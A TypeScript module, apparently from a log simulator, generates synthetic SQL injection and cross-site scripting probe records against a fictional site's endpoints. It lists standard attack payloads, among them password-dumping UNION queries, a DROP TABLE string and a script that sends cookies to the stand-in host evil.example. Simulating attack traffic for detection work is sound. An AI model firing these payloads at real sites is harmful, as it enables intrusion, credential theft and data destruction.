/** Injection probes (SQL injection, cross-site scripting) sent through the query strings of one endpoint. */
import { BROWSER_AGENTS } from '../agents.ts';
import { hostileIp } from '../network.ts';
import type { Random } from '../random.ts';
import type { LogRecord } from '../record.ts';
import { NO_REFERRER } from '../referrers.ts';
import type { Visitor } from '../response.ts';
import type { SimulatedServer } from '../server.ts';
import { ENDPOINTS, type Endpoint, SITE } from '../site.ts';
import type { AttackContext, Episode } from './episode.ts';

interface InjectionPoint {
  readonly endpoint: Endpoint;
  /** URL up to the injected value, e.g. `https://…/search?q=`. */
  readonly prefix: string;
}

const SQL_POINTS: readonly InjectionPoint[] = [
  { endpoint: ENDPOINTS.search, prefix: `${SITE}/search?q=` },
  { endpoint: ENDPOINTS.products, prefix: `${SITE}/products?id=` },
  { endpoint: ENDPOINTS.apiProducts, prefix: `${SITE}/api/v1/products?category=` },
  { endpoint: ENDPOINTS.category, prefix: `${SITE}/products/category/streaming?sort=` },
];
const XSS_POINTS: readonly InjectionPoint[] = [
  { endpoint: ENDPOINTS.search, prefix: `${SITE}/search?q=` },
  { endpoint: ENDPOINTS.blogPost, prefix: `${SITE}/blog/what-is-stream-processing?comment=` },
  { endpoint: ENDPOINTS.contact, prefix: `${SITE}/contact?name=` },
  { endpoint: ENDPOINTS.products, prefix: `${SITE}/products?sort=` },
];

const SQL_PAYLOADS = [
  "' OR '1'='1",
  "1' OR 1=1--",
  "' OR 1=1#",
  "admin'--",
  '1 UNION SELECT username,password FROM users--',
  "' UNION SELECT NULL,NULL,NULL--",
  "-1' UNION ALL SELECT table_name,2 FROM information_schema.tables--",
  "1' AND SLEEP(5)--",
  "1'; WAITFOR DELAY '0:0:5'--",
  '1 AND (SELECT 1 FROM pg_sleep(5))',
  '1; DROP TABLE users--',
  "1' AND extractvalue(1,concat(0x7e,version()))--",
  "1' ORDER BY 10--",
  '1 AND 1=2',
  "' AND 1=CONVERT(int,@@version)--",
  "1' AND (SELECT COUNT(*) FROM users) > 0--",
];
const XSS_PAYLOADS = [
  '<script>alert(1)</script>',
  '"><script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  'javascript:alert(1)',
  '\'"><iframe src=javascript:alert(1)>',
  "<body onload=alert('xss')>",
  '<script>document.location="http://evil.example/?c="+document.cookie</script>',
  '<details open ontoggle=alert(1)>',
  '"><img src=1 onerror=prompt(1)>',
];

const TIME_BASED = /SLEEP|WAITFOR|pg_sleep/;

/** The payload as a client would send it: fully percent-encoded, or with only spaces and brackets encoded. */
function encodings(payload: string): string[] {
  const light = payload
    .replaceAll(' ', '+')
    .replaceAll('<', '%3C')
    .replaceAll('>', '%3E')
    .replaceAll('"', '%22');
  return [encodeURIComponent(payload), light];
}

class InjectionProbes implements Episode {
  readonly actorIp: string;
  readonly actorUser = null;
  readonly target: string;
  private readonly random: Random;
  private readonly server: SimulatedServer;
  private readonly visitor: Visitor;
  private readonly point: InjectionPoint;
  private readonly urls: readonly string[];
  private readonly slowUrls: ReadonlySet<string>;
  private readonly errorRate: number;

  constructor(
    random: Random,
    context: AttackContext,
    points: readonly InjectionPoint[],
    payloads: readonly string[],
    toolAgent: string,
    errorRate: number,
  ) {
    this.random = random;
    this.server = context.server;
    this.actorIp = hostileIp(random);
    const agent = random.chance(0.3) ? toolAgent : BROWSER_AGENTS.pick(random);
    this.visitor = { ip: this.actorIp, agent, referrer: NO_REFERRER, userId: null, username: null };
    this.point = random.pick(points);
    this.target = this.point.endpoint.route;
    const prefix = this.point.prefix;
    this.urls = payloads.flatMap((payload) => encodings(payload).map((encoded) => prefix + encoded));
    this.slowUrls = new Set(
      payloads
        .filter((payload) => TIME_BASED.test(payload))
        .flatMap((payload) => encodings(payload).map((encoded) => prefix + encoded)),
    );
    this.errorRate = errorRate;
  }

  request(time: number): LogRecord {
    const random = this.random;
    const url = random.pick(this.urls);
    const u = random.float();
    const status = u < this.errorRate ? 500 : u < this.errorRate + 0.1 ? 400 : 200;
    const record = this.server.serve(
      random,
      time,
      this.visitor,
      url,
      this.point.endpoint,
      'view_page',
      status,
    );
    if (status === 200 && this.slowUrls.has(url)) record.response_time += 5000;
    return record;
  }
}

export function sqlInjection(random: Random, context: AttackContext): Episode {
  return new InjectionProbes(
    random,
    context,
    SQL_POINTS,
    SQL_PAYLOADS,
    'sqlmap/1.7.12#stable (https://sqlmap.org)',
    0.2,
  );
}

export function crossSiteScripting(random: Random, context: AttackContext): Episode {
  return new InjectionProbes(random, context, XSS_POINTS, XSS_PAYLOADS, 'python-requests/2.31.0', 0.02);
}
